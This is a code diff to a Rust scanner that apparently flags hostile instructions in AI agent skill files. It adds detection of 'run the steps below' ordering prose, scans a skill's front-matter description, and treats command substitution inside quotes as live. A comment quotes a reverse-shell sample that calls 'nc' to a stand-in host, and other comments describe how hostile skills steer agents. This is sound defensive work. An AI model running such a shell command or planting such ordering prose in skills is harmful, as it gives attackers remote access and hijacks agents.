@@ -215,6 +215,10 @@ struct FileScan<'a> {
     /// Whether the list being read is the object of an instruction (`Assemble a JSON object with these keys:`):
     /// each item is part of what the agent is told to do.
     instructing_list: bool,
+    /// Whether the prose before the list or table being read orders what follows done (`Do the setup below, in
+    /// order:`, `Run each line of the list below.`): a label after the order (`Red flags:`), a checkbox or a table's
+    /// cells cost nothing and do not make its items descriptions.
+    ordered_below: bool,
     /// The label before the markdown code block being scanned when it says the block shows an attack or what not
     /// to do (`Attackers extract credentials via:`, `**Vulnerable:**`) and nothing after the block asks to run it.
     described_block: Option<String>,
@@ -243,6 +247,7 @@ impl<'a> FileScan<'a> {
             example: false,
             describing_list: false,
             instructing_list: false,
+            ordered_below: false,
             described_block: None,
             shown_then_asked: false,
             runs_code: false,
@@ -307,7 +312,8 @@ impl<'a> FileScan<'a> {
             // What makes the matched text a description rather than an instruction, read only from what governs
             // it: a word after it, or anywhere else on the line, costs a hostile skill nothing and counts for
             // nothing (see `describing_cue`).
-            let cue = if place == Place::Code {
+            let table_row = text.trim_start().starts_with('|');
+            let cue = if place == Place::Code || self.ordered_below && (list_item || table_row) {
                 None
             } else {
                 describing_cue(
@@ -940,8 +946,14 @@ impl<'a> FileScan<'a> {
                     }
                     // A line ending in `:` that describes (`**Blocks**:`, `Look for:`) makes the list after it a
                     // list of things described; any line that is not an item of that list ends it.
+                    let item = LIST_ITEM.is_match(&text) || trimmed.starts_with('|');
+                    if !item && !trimmed.is_empty() {
+                        let orders = ORDER_BELOW.is_match(trimmed) && !context::NEGATION.is_match(trimmed);
+                        // A label right after the order keeps it (`Red flags:` costs nothing).
+                        self.ordered_below = orders || self.ordered_below && trimmed.ends_with(':');
+                    }
                     if trimmed.ends_with(':') && !LIST_ITEM.is_match(&text) {
-                        self.describing_list = describing_label(trimmed);
+                        self.describing_list = describing_label(trimmed) && !self.ordered_below;
                         self.instructing_list = !self.describing_list
                             && MAKES.is_match(trimmed)
                             && !context::NEGATION.is_match(trimmed);
@@ -1104,6 +1116,10 @@ pub fn scan_file(
         FileKind::SkillMd => match split_frontmatter(&text) {
             Some((yaml, body, body_line)) => {
                 scan.lines(2, yaml, Place::Comment);
+                // The description is text every agent reads before the skill's body: read as its prose is.
+                if let Some((line, description)) = description_of(yaml) {
+                    scan.markdown(&description, line, facts);
+                }
                 // What the runtime metadata has the agent's runtime install is run as surely as a script.
                 let installs = crate::skillmd::install_commands(yaml);
                 if !installs.trim().is_empty() {
@@ -1201,7 +1217,9 @@ fn in_pattern_literal(text: &str, at: usize) -> bool {
             && trimmed.ends_with(q)
             && !trimmed[1..trimmed.len() - 1].contains(q)
     };
-    if quoted('"') || quoted('\'') || strings_only(trimmed) {
+    // A double-quoted string that substitutes a command (`"$(nc h 8443 -e /bin/sh)"`) runs it where it stands.
+    let substitutes = trimmed.starts_with('"') && (trimmed.contains("$(") || trimmed.contains('`'));
+    if !substitutes && (quoted('"') || quoted('\'') || strings_only(trimmed)) {
         return true;
     }
     let before = &text[..at];
@@ -1232,6 +1250,34 @@ re!(
 re!(
     /// A markdown list item.
     LIST_ITEM, r"^\s*([-*+]|\d+[.)])\s");
+
+re!(
+    /// Prose that orders what follows it done: `do the setup below`, `Run each line of the list below`, `Execute the
+    /// following steps`.
+    ORDER_BELOW,
+    r"(?i)\b(?:run|execute|do|perform|complete|follow|apply|paste|type|carry\s+out)\b[^.:;]{0,60}?\b(?:below|following|each\s+(?:line|row|step|item|command))\b"
+);
+
+/// The `description` of SKILL.md's front matter (`yaml` starts at line 2) as text, with the line it starts on: a
+/// plain, quoted or block (`|`, `>`) value, its lines kept apart.
+fn description_of(yaml: &str) -> Option<(u32, String)> {
+    let lines: Vec<&str> = yaml.lines().collect();
+    let at = lines.iter().position(|l| l.starts_with("description:"))?;
+    let first = lines[at]["description:".len()..].trim();
+    let block = first.is_empty() || first.starts_with(['|', '>']);
+    let mut text = if block { String::new() } else { first.to_owned() };
+    for l in &lines[at + 1..] {
+        // The value goes on over indented lines; the next key ends it.
+        if !l.starts_with([' ', '\t']) && !l.trim().is_empty() {
+            break;
+        }
+        text.push('\n');
+        text.push_str(l.trim());
+    }
+    let text = text.trim_matches(|c: char| c == '\'' || c == '"' || c.is_whitespace());
+    let first_line = u32::try_from(at).ok()? + 2 + u32::from(block);
+    (!text.is_empty()).then(|| (first_line, text.to_owned()))
+}
 
 /// A file whose name says it is an example or a template (`api-store-example.ts`, `config.sample.py`).
 fn is_example_name(path: &str) -> bool {
